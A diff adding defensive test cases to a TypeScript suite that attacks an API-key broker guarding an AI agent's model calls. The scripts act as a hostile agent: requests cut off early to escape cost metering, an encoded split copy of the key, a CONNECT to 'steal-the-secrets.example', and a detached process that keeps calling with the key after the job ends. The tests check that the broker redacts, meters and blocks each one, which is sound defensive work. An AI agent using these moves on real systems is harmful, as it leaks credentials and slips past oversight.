@@ -174,6 +174,86 @@ const ROWS: Network[] = [
       expect(provider.seen.length).toBeLessThan(5);
     },
   },
+  {
+    what: 'an agent that hangs up before each answer',
+    must: 'has spent what it may have used, and the job does not say that it was nothing',
+    script: `write('begun'); const http = require('node:http'); const { hostname, port } = new URL(base);
+      for (let n = 0; n < 5; n += 1) await new Promise((resolve) => {
+        const asked = http.request({ hostname, port, path: '/v1/messages', method: 'POST', headers: { 'x-api-key': word } });
+        asked.on('error', resolve); asked.on('close', resolve); asked.end('{"max_tokens":1000}');
+        setTimeout(() => asked.destroy(), 300);
+      })`,
+    handler: () => {},
+    settings: 'prices: { input: 1000, output: 1000 }\n',
+    see(ended, place, { provider }) {
+      expect(provider.seen.length).toBe(5);
+      expect(place.said()).toContain('not measured');
+      expect(place.said()).not.toContain('$0.00');
+      expect(ended.outputs.outcome).toBe('pull-request');
+    },
+  },
+  {
+    what: 'an agent that hangs up before each answer, with a budget',
+    must: 'is stopped when what it may have used is all of it',
+    script: `write('begun'); const http = require('node:http'); const { hostname, port } = new URL(base);
+      for (;;) await new Promise((resolve) => {
+        const asked = http.request({ hostname, port, path: '/v1/messages', method: 'POST', headers: { 'x-api-key': word } });
+        asked.on('error', resolve); asked.on('close', resolve); asked.end('{"max_tokens":1000}');
+        setTimeout(() => asked.destroy(), 200);
+      })`,
+    handler: () => {},
+    settings: 'prices: { input: 1000, output: 1000 }\nbudget: { day: 5 }\n',
+    see(_, place, { provider }) {
+      expect(place.said()).toContain('has used up its budget of $5.00');
+      expect(provider.seen.length).toBeLessThan(12);
+    },
+  },
+  ...(['base64', 'hex', 'latin1'] as const).map(
+    (encoding): Network => ({
+      what: `a provider that repeats the key in a good answer, as ${encoding}, in two pieces`,
+      must: 'gives the agent no key',
+      script: 'write(await (await ask()).text())',
+      handler: ({ headers }, response) => {
+        const said = Buffer.from(`${headers['x-api-key']}`).toString(encoding);
+        response.write(`data: {"text":"${said.slice(0, 11)}`);
+        setTimeout(() => response.end(`${said.slice(11)}"}\n\n`), 50);
+      },
+      async see(ended, place) {
+        const page = (await place.made('docs/answer.md')) ?? ended.log;
+        expect(page).not.toContain(Buffer.from(KEY).toString(encoding));
+        expect(page).toContain('***');
+      },
+    }),
+  ),
+  {
+    what: 'another process that knocks at the broker, and holds hundreds of connections open',
+    must: 'leaves no trace in the job, and the agent gets its answer',
+    script: `const { hostname, port } = new URL(base);
+      const idle = Array.from({ length: 200 }, () => net.connect(Number(port), hostname).on('error', () => {}));
+      const knock = net.connect(Number(port), hostname, () => knock.write('CONNECT steal-the-secrets.example:443 HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n'));
+      await new Promise((resolve) => knock.on('error', resolve).on('close', resolve).resume());
+      await new Promise((resolve) => setTimeout(resolve, 1500));
+      write(String((await ask()).status))`,
+    async see(ended, place) {
+      if (isClosed(ended)) return;
+      expect(await place.made('docs/answer.md')).toContain('200');
+      const [pull] = await place.repository.pulls();
+      expect(pull?.body).not.toContain('steal-the-secrets');
+    },
+  },
+  {
+    what: 'an agent program that leaves a process behind, which goes on asking with its word',
+    must: 'gets no answer after the job has ended',
+    script: `const { spawn } = require('node:child_process');
+      const code = "setTimeout(async () => { for (let n = 0; n < 5; n += 1) { await fetch(process.argv[1], { method: 'POST', headers: { 'x-api-key': process.argv[2] }, body: '{}' }).catch(() => {}); } }, 3000)";
+      spawn(process.execPath, ['-e', code, base + '/v1/messages', word], { detached: true, stdio: 'ignore' }).unref();
+      write('left one behind')`,
+    async see(ended, _, { provider }) {
+      expect(ended.outputs.outcome).toBe('pull-request');
+      await new Promise((resolve) => setTimeout(resolve, 4_000));
+      expect(provider.seen).toEqual([]);
+    },
+  },
 ];
 
 export const NETWORK: Attack[] = ROWS.map(network);
